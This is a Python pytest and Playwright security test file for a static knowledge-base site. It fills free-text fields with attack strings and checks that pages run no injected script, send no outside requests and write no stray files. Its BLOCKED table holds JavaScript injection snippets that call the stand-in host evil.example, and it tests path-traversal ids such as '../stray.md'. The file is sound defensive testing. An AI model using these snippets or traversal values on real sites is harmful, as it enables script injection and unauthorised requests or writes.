"""What strangers could send in, on the site as if no check had refused it: no script runs, no request leaves, no file strays.

Every text of an attack stands somewhere on one site: as another name and in a paragraph of a case, as the title of a case or of
a source, and by turns in every other place where a contributor writes freely.
"""

from __future__ import annotations

import re
from collections import Counter
from dataclasses import dataclass, field, fields, is_dataclass, replace
from itertools import cycle
from typing import TYPE_CHECKING, Any

import pytest
from playwright.sync_api import expect

from coalition_kb.building import publish_pages
from coalition_kb.dataset import CSV, dataset, downloads
from coalition_kb.earlier import Earlier
from coalition_kb.findings import Results
from coalition_kb.generator import settings as generator_settings
from coalition_kb.model import Prose
from coalition_kb.operations import Computer
from coalition_kb.output import text
from coalition_kb.pagefind.index import index
from coalition_kb.pieces import Pieces
from coalition_kb.policy import POLICY, breaches
from coalition_kb.publish import EDITION, lay, write
from coalition_kb.reader import documents, licences
from coalition_kb.site.cite import citations
from coalition_kb.site.code_page import data as coding_data
from coalition_kb.site.compare import files as compared
from coalition_kb.site.edition import edition
from coalition_kb.site.given import Site
from coalition_kb.site.pages import feed, pages
from coalition_kb.site.prose import library
from coalition_kb.site.situation_page import data as situation_data
from coalition_kb.site.spellings import spellings
from coalition_kb.site.static import static
from coalition_kb.tables import filled, tables
from tests.hostilefiles import ATTACKS
from tests.site import browser as browsers

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import Browser, Dialog, Page, Route

    from coalition_kb.model import Case, Record, Source

TEXTS = list(dict.fromkeys(one.text.strip() for one in ATTACKS if one.text.strip()))
TITLES = list(dict.fromkeys(one.sent["text"] for one in ATTACKS if one.sent.get("at") == "title"))
#: The fields of the model that a contributor writes freely; all others are words of a list, ids, numbers or dates.
FREE = {
    "Accepted": ("says", "why"),
    "Adjudication": ("why",),
    "Alternative": ("why",),
    "Bearing": ("rival", "why"),
    "Body": ("name", "note"),
    "Candidate": ("name", "why"),
    "Case": ("title", "aliases"),
    "CellChange": ("was", "now", "why"),
    "Change": ("says",),
    "Citation": ("locator",),
    "Claim": ("why",),
    "Clause": ("says",),
    "Code": ("name", "meaning"),
    "Coding": ("why",),
    "CodingPass": ("says", "shares"),
    "Draw": ("says",),
    "Evidence": ("says", "quote"),
    "Finding": ("number", "name", "claim", "test", "supports", "contradicts", "limits"),
    "FindingTest": ("name",),
    "FormerName": ("name",),
    "Judgement": ("why",),
    "Listing": ("why",),
    "Literature": ("says", "why"),
    "Objective": ("says", "why"),
    "Pass": ("by",),
    "Phase": ("name", "aim", "activity", "command"),
    "Population": ("name",),
    "Prose": ("text",),
    "Question": ("name", "question", "covers", "cannot_know"),
    "Retired": ("title", "why"),
    "Search": ("where", "wanted"),
    "Searched": ("says",),
    "Source": (
        *("title", "short", "authors", "issued", "container", "publisher", "volume", "issue", "page", "url", "doi"),
        "note",
    ),
    "Spell": ("letters",),
    "State": ("name", "adjectives", "also", "cow_region", "m49", "capital"),
    "Step": ("why", "name"),
    "Study": ("cast",),
    "Theme": ("name",),
    "Universe": ("rule",),
    "Variable": (*("name", "question", "rule", "unit_of_measure", "missing", "counts", "does_not_count", "look_in"),),
    "Version": ("says",),
    "Worked": ("says",),
}


class Hostile:
    """Gives every free text of a record the next of the attacks."""

    def __init__(self) -> None:
        self._next = cycle(TEXTS)

    def of(self, thing: Any, *, is_free: bool = False) -> Any:  # noqa: ANN401 - anything of the model
        """*thing* with an attack in the place of each free text."""
        if isinstance(thing, str):
            return next(self._next) if is_free else thing
        if isinstance(thing, tuple):
            return tuple(self.of(one, is_free=is_free) for one in thing)
        if isinstance(thing, dict):
            return {key: self.of(one, is_free=is_free) for key, one in thing.items()}
        if (
            is_dataclass(thing)
            and not isinstance(thing, type)
            and type(thing).__module__.startswith("coalition_kb.model")
        ):
            free = FREE.get(type(thing).__name__, ())
            held = {one.name: getattr(thing, one.name) for one in fields(thing) if one.init}
            return replace(thing, **{name: self.of(one, is_free=name in free) for name, one in held.items()})
        return thing


def hostile(record: Record) -> Record:
    """*record* with attacks for all free texts; a case for each title, and a source for each text."""
    made: Record = Hostile().of(record)
    first: Case = made.cases["khemed-1958"]
    account = Prose("\n\n".join(TEXTS), first.summary.citations, first.summary.place)
    cases = {
        f"hostile-{n}": replace(first, id=f"hostile-{n}", title=title, aliases=(title,))
        for n, title in enumerate(TITLES)
    }
    shown: Source = made.sources["gazette-2006"]
    shelf = {
        f"hostile-{n}": replace(shown, id=f"hostile-{n}", title=text, url=text, doi=text, publisher=text)
        for n, text in enumerate(TEXTS)
    }
    every = replace(first, aliases=tuple(TEXTS), summary=account)
    return replace(made, cases={**made.cases, first.id: every, **cases}, sources={**made.sources, **shelf})


@pytest.fixture(scope="module")
def root(record: Record, project: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What is built of the hostile record, with a folder beside it in which nothing may appear."""
    root = tmp_path_factory.mktemp("hostile")
    into = root / "build"
    of = hostile(record)
    made = tables(of)
    cells = filled(made)
    given = Site(
        of,
        Computer(of),
        made,
        list(downloads(CSV.kind, {}, cells)),
        library(of.sources.values()),
        "",
        results=Results(),
    )
    config = generator_settings(project, into / "frame", into / "site")
    shown = [*pages(given), *static(), *documents(project)]
    fetched = [*compared(given), situation_data(given), coding_data(of), spellings(of)]
    files = list(dataset(cells, given.about, (CSV,)))
    beside = [replace(one, path=one.path.__class__("data/files") / one.path) for one in files]
    write([*shown, *fetched, *citations(given), feed(given), *licences(project), *beside], into / "docs")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SOURCE_DATE_EPOCH", "0")
        publish_pages(config, into / "docs", Earlier(), epoch=0, versions="")
    index(into / "site")
    one_file = edition(shown, [], Pieces())
    (into / "site" / EDITION).write_text(one_file, encoding="utf-8")
    return root


ELSEWHERE = re.compile(r"^(?!http://127\.0\.0\.1:|data:|blob:)")
PROBE = "window.pwned = () => console.error('pwned');"


@pytest.fixture(scope="module")
def home(browser: Browser, root: Path) -> Iterator[str]:  # noqa: ARG001 - without a browser nothing is served
    """The address of the site."""
    with browsers.served(root / "build" / "site") as address:
        yield address


@pytest.fixture(scope="module", params=[False, True], ids=["with the policy", "without the policy"])
def tab(browser: Browser, home: str, request: pytest.FixtureRequest) -> Iterator[tuple[Page, str, list[str]]]:
    """A page, the address of the site, and what went wrong so far: scripts that ran, requests that would have left."""
    wrong: list[str] = []
    context = browser.new_context(bypass_csp=request.param, reduced_motion="reduce")
    context.add_init_script(PROBE)

    def ask(route: Route) -> None:
        wrong.append(f"asked {route.request.url}")
        route.abort()

    def talk(dialog: Dialog) -> None:
        wrong.append(f"dialog {dialog.message}")
        dialog.dismiss()

    context.route(ELSEWHERE, ask)  # the site's own requests are not held up
    page = context.new_page()
    page.set_default_timeout(20_000)
    page.on("dialog", talk)
    page.on("console", lambda said: wrong.append(f"said {said.text}") if said.type == "error" else None)
    page.on("pageerror", lambda error: wrong.append(f"error {error}"))
    page.on("popup", lambda popup: wrong.append(f"popup {popup.url}"))
    yield page, home, wrong
    context.close()


@pytest.fixture
def opened(tab: tuple[Page, str, list[str]]) -> tuple[Page, str, list[str]]:
    """The same for the next test, which is told of nothing that went wrong before it."""
    page, _, wrong = tab
    page.goto("about:blank")
    wrong.clear()
    return tab


def every_page(site: Path) -> list[str]:
    """The addresses of all pages that stay; of the many cases and sources that are made alike, one in twelve."""
    found = sorted(
        path for path in site.rglob("index.html") if 'http-equiv="refresh"' not in path.read_text(encoding="utf-8")
    )
    paths = [str(path.parent.relative_to(site)) for path in found]
    alike = [one for one in paths if "/hostile-" in one]
    return [one for one in paths if one not in alike] + alike[::12]


@pytest.mark.browser
def test_no_script_runs_and_no_request_leaves_on_any_page(opened: tuple[Page, str, list[str]], root: Path) -> None:
    page, home, wrong = opened
    for path in every_page(root / "build" / "site"):
        page.goto(f"{home}{path}/", wait_until="load")
        assert wrong == [], path
        assert page.url.startswith(home)


@pytest.mark.browser
def test_none_runs_among_hits_rows_and_answers(opened: tuple[Page, str, list[str]]) -> None:
    page, home, wrong = opened
    for words in ("pwned", "script", "evil"):
        page.goto(f"{home}search/?q={words}")
        expect(page.locator("#kb-hits .kb-hit a").first).to_be_visible()
    page.goto(f"{home}explore/?name=pwned")
    expect(page.locator("tbody tr:visible").first).to_be_visible()
    page.goto(f"{home}compare/?cases=hostile-0,hostile-1,khemed-1958")
    expect(page.locator("main table").first).to_be_visible()
    for path in ("code/", "situation/"):
        page.goto(f"{home}{path}", wait_until="networkidle")
    assert wrong == []


@pytest.mark.browser
def test_none_runs_in_the_edition_in_one_file(opened: tuple[Page, str, list[str]]) -> None:
    page, home, wrong = opened
    for place in (
        "",
        "#/cases",
        "#/cases/khemed-1958",
        "#/cases/hostile-1",
        "#/sources",
        "#/search?q=pwned",
        "#/states/COS",
    ):
        page.goto("about:blank")
        page.goto(f"{home}{EDITION}{place}")
        page.wait_for_selector("main[data-ready] h1")
        assert page.locator("main img, main iframe, main script, main svg[onload]").count() == 0
    assert wrong == []


@pytest.mark.browser
def test_an_honest_sign_reads_as_it_was_written(opened: tuple[Page, str, list[str]]) -> None:
    page, home, wrong = opened
    page.goto(f"{home}cases/khemed-1958/")
    expect(page.locator(".kb-account")).to_contain_text("p < .05, a<b, x > y, I <3 it, 5<6>4 & AT&T.")
    assert wrong == []


def test_no_page_of_it_goes_beyond_the_policy(root: Path) -> None:
    for page in sorted((root / "build" / "site").rglob("*.html")):
        if page.name != EDITION:  # which has a policy of its own
            assert list(breaches(page.read_text(encoding="utf-8"))) == [], page


def test_no_file_strays(root: Path) -> None:
    assert {one.name for one in root.iterdir()} == {"build"}
    assert {one.name for one in (root / "build").iterdir()} == {"docs", "site"}


def test_every_attack_stands_somewhere(root: Path) -> None:
    """What is shown is what was sent: in the table of other names, sign by sign."""
    names = (root / "build" / "docs" / "cases" / "khemed-1958.md").read_text(encoding="utf-8")
    assert len(TEXTS) > 200
    assert Counter(names)["&"] > len(TEXTS)


# --- the policy -------------------------------------------------------------------------------------------------------

#: What each tries, by the part of the policy that stops it.
BLOCKED = {
    "script-src-elem": "const one = document.createElement('script'); one.textContent = 'pwned()'; document.head.append(one);",
    "script-src-attr": "const one = document.createElement('b'); one.setAttribute('onclick', 'pwned()'); "
    "document.body.append(one); one.click();",
    "script-src": "setTimeout('pwned()', 0);",
    "img-src": "const one = new Image(); one.src = 'https://evil.example/a.png'; document.body.append(one);",
    "connect-src": "fetch('https://evil.example/').catch(() => null);",
    "frame-src": "const one = document.createElement('iframe'); one.src = 'https://evil.example/'; document.body.append(one);",
    "form-action": "const one = document.createElement('form'); one.action = 'https://evil.example/'; "
    "document.body.append(one); one.submit();",
    "base-uri": "const one = document.createElement('base'); one.href = 'https://evil.example/'; document.head.append(one);",
    "object-src": "const one = document.createElement('object'); one.data = 'https://evil.example/a'; document.body.append(one);",
    "style-src-elem": "const one = document.createElement('link'); one.rel = 'stylesheet'; "
    "one.href = 'https://evil.example/a.css'; document.head.append(one);",
    "font-src": "new FontFace('x', 'url(https://evil.example/a.woff2)').load().catch(() => null);",
    "media-src": "const one = new Audio('https://evil.example/a.mp3'); document.body.append(one);",
    "worker-src": "try { new Worker('https://evil.example/a.js'); } catch { /* of another origin, whatever the policy */ } "
    "new Worker('data:text/javascript,1').onerror = () => null;",
}
_NOTED = """window.met = [];
document.addEventListener("securitypolicyviolation", (one) => window.met.push(one.effectiveDirective));"""


@pytest.mark.parametrize("path", ["../stray.md", "cases/../../stray.md", "/stray.md"])
def test_a_page_that_would_lie_elsewhere_is_written_nowhere(tmp_path: Path, path: str) -> None:
    """What an id could bring about that no rule refused."""
    for writes in (write, lay):
        with pytest.raises(ValueError, match="lies outside"):
            writes([text(path, "stray")], tmp_path / "build" / "docs")
    assert list(tmp_path.rglob("*.md")) == []


@dataclass
class Try:
    """A page that tries what the policy stops: which requests left, by which parts it was stopped, and what came of it."""

    page: Page
    left: list[str] = field(default_factory=list)
    stopped: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def tries(browser: Browser, home: str) -> Iterator[dict[str, Try]]:
    """What is blocked, each tried on a page of its own; all are given the same time for it."""
    context = browser.new_context()
    context.add_init_script("window.pwned = () => { window.ran = true; };")

    def ask(route: Route) -> None:
        next(one for one in made.values() if one.page == route.request.frame.page).left.append(route.request.url)
        route.abort()

    context.route(ELSEWHERE, ask)  # what the policy stops never comes to be routed
    made = {part: Try(context.new_page()) for part in BLOCKED}
    for part, one in made.items():
        one.page.goto(f"{home}cite/")
        one.page.evaluate(f"() => {{ {_NOTED} {BLOCKED[part]} }}")
    context.pages[-1].wait_for_timeout(400)
    for one in made.values():
        one.stopped.extend(one.page.evaluate("window.met"))
    yield made
    context.close()


@pytest.mark.browser
@pytest.mark.parametrize("part", BLOCKED)
def test_the_policy_stops_it(tries: dict[str, Try], home: str, part: str) -> None:
    tried = tries[part]
    assert part in tried.stopped
    assert tried.left == []
    assert not tried.page.evaluate("window.ran || false")
    assert tried.page.url == f"{home}cite/"


def test_the_policy_names_what_it_allows_and_nothing_else() -> None:
    assert POLICY.startswith("default-src 'none'; ")
    assert "http" not in POLICY
    assert "'unsafe-eval'" not in POLICY
    assert POLICY.count("'unsafe-inline'") == POLICY.count("style-src 'self' 'unsafe-inline'") == 1
